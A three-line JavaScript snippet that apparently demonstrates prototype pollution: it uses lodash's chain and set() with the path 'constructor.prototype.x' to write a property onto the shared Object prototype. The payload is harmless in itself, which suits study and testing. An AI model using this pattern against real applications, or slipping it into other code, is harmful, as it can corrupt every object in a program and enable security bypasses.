// a chain writes into what everybody inherits
const _ = require('lodash');
_.chain({}).set('constructor.prototype.x', 1).value();
